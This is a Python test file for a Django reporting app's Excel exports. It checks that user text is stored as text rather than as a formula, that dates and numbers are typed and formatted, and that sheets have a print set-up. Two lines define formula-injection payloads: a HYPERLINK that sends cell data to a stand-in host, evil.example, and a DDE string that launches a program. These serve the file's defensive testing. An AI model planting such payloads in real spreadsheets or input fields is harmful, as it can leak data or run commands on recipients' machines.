"""Finding 3 (issue 15) and issue 14 item 6: every Excel export writes people's text as text, never a
formula; dates and numbers as real dates and numbers; and a print set-up (A4 landscape, fit to width,
titles repeated, print area)."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from cchc.reports import actions
from cchc.reports.exports import export_agency, export_province
from cchc.reports.models import Report
from cchc.reports.tests.helpers import Q1_DAY, make_result, q1, submitted

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
DDE = "=cmd|' /C calc'!A0"


def _book(export):
    return load_workbook(io.BytesIO(export.content))


def _assert_no_formula(book) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"


def _assert_printable(sheet) -> None:
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert int(sheet.page_setup.fitToWidth) == 1 and int(sheet.page_setup.fitToHeight) == 0
    assert sheet.print_title_rows == "$1:$2"
    assert sheet.print_area.endswith(f"$A$1:${get_column_letter(sheet.max_column)}${sheet.max_row}")


@pytest.fixture
def period(demo_plan):
    return q1(demo_plan)


def test_it_writes_a_hostile_result_title_and_unit_as_text_in_the_agency_export(demo_plan, period, personas):
    make_result(
        personas.units.commune_a, plan=demo_plan, title=HYPERLINK, quantity=3, quantity_unit="=1+2", cost=1_250_000
    )
    report = submitted(period, personas.units.commune_a, personas.head_a)
    report = Report.objects.select_related("period__plan", "unit__parent", "current_version").get(pk=report.pk)
    book = _book(export_agency(report, "xlsx"))
    _assert_no_formula(book)
    items = book["Danh mục kết quả"]
    row = next(items.iter_rows(min_row=3, max_row=3))
    values = [c.value for c in row]
    assert HYPERLINK in values and "=1+2" in values  # the text reads as typed
    date_cell, cost_cell = row[0], row[7]
    assert isinstance(date_cell.value, dt.datetime) and date_cell.value.date() == Q1_DAY
    assert date_cell.number_format == "DD/MM/YYYY"
    assert cost_cell.value == 1_250_000 and cost_cell.number_format == "#,##0"
    for sheet in book.worksheets:
        _assert_printable(sheet)
    assert items.print_area == f"'Danh mục kết quả'!$A$1:$J${items.max_row}"


def test_it_writes_hostile_narratives_as_text_in_the_province_export(demo_plan, period, personas):
    make_result(personas.units.commune_a, plan=demo_plan, quantity=3)
    report = submitted(period, personas.units.commune_a, personas.head_a, text=DDE)
    actions.do_accept_report(report, actor=personas.coordinator)
    book = _book(export_province(period, "xlsx"))
    _assert_no_formula(book)
    opinions = [v for row in book["Ý kiến đơn vị"].iter_rows(min_row=3, values_only=True) for v in row]
    assert DDE in opinions
    submitted_on = [row[4] for row in book["Tình hình báo cáo"].iter_rows(min_row=3, values_only=True) if row[4]]
    assert submitted_on and all(isinstance(value, dt.datetime) for value in submitted_on)
    for sheet in book.worksheets:
        _assert_printable(sheet)
